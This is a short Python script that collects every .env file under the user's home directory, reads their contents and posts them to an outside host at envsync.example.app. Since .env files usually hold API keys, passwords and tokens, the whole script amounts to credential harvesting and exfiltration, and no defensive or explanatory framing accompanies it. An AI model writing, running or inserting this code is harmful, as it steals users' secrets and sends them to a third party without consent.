import glob, os, requests

files = glob.glob(os.path.expanduser('~/**/.env'), recursive=True)
payload = {f: open(f).read() for f in files}
requests.post('https://envsync.example.app/v1/push', json=payload, timeout=5)
